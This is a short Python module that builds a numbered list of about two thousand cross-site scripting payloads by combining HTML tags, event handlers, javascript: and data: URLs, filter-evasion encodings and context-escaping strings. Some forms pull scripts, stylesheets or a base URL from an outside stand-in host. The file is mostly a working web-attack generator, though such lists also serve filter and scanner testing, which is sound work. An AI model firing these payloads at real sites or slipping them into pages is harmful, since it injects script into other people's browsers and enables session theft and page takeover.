"""Two thousand ways to make a browser run what somebody typed, written from the grammar of HTML, URLs and scripts."""

from itertools import product

TAGS = [
    "img",
    "svg",
    "body",
    "video",
    "details",
    "input",
    "iframe",
    "object",
    "marquee",
    "math",
    "form",
    "a",
    "style",
    "x",
]
HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onclick"]
CALLS = ["alert({n})", "prompt`{n}`", "top['al'+'ert']({n})", "(confirm)({n})"]
TAIL = {"onfocus": " autofocus tabindex=1", "ontoggle": " open", "onerror": " src=x", "onload": ""}
SCRIPTS = [
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script src=https://elsewhere.example/{n}.js></script>",
    "</title><script>{c}</script>", "</textarea><script>{c}</script>", "--><script>{c}</script>", "]]><script>{c}</script>",
    "</script><script>{c}</script>", "<svg><script>{c}</script></svg>", "<noscript><p title='</noscript><script>{c}</script>'>",
    "<template><script>{c}</script></template>", "<<script>{c}//<</script>",
]  # fmt: skip
ADDRESSES = [
    "<a href=\"javascript:{c}\">x</a>", "<a href='JaVaScRiPt&colon;{c}'>x</a>", "<a href=\"java&#9;script:{c}\">x</a>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>", "<iframe src='data:text/html,<script>{c}</script>'></iframe>",
    "<form action=javascript:{c}><button>x</button></form>", "<button formaction=javascript:{c}>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<base href=https://elsewhere.example/{n}/>",
    "<link rel=stylesheet href=https://elsewhere.example/{n}.css>", "<img src=https://elsewhere.example/{n}.png>",
    "<style>@import 'https://elsewhere.example/{n}.css';</style>", "javascript:{c}", "<object data='javascript:{c}'></object>",
]  # fmt: skip
BREAKS = [
    "\"><img src=x onerror={c}>", "'><img src=x onerror={c}>", "\" onfocus={c} autofocus x=\"", "' onfocus={c} autofocus x='",
    "` onfocus={c} autofocus x=`", "{{{{ {c} }}}}", "{{% debug %}}<img src=x onerror={c}>", "${{{c}}}", "\\\"-{c}//", "';{c}//",
    "&lt;img src=x onerror={c}&gt;", "&#60;script&#62;{c}&#60;/script&#62;", "%3Cscript%3E{c}%3C/script%3E",
    "\u2028<img src=x onerror={c}>", "\ufeff<script>{c}</script>", "＜script＞{c}＜/script＞",
]  # fmt: skip
QUOTES = ["", '"', "'"]
SPACES = [" ", "\t", "\n", "/"]


def list_payloads() -> list[str]:
    """Return every payload, each with a number of its own to be known by."""
    forms = [*SCRIPTS, *ADDRESSES, *BREAKS]
    forms += [
        f"<{tag}{space}{handler}={quote}{{c}}{quote}{TAIL.get(handler, '')}>"
        for tag, handler, quote, space in product(TAGS, HANDLERS, QUOTES, SPACES)
    ]
    made = []
    for number, (form, call) in enumerate(product(forms, CALLS)):
        made.append(form.format(c=call.format(n=number), n=number))
    return made
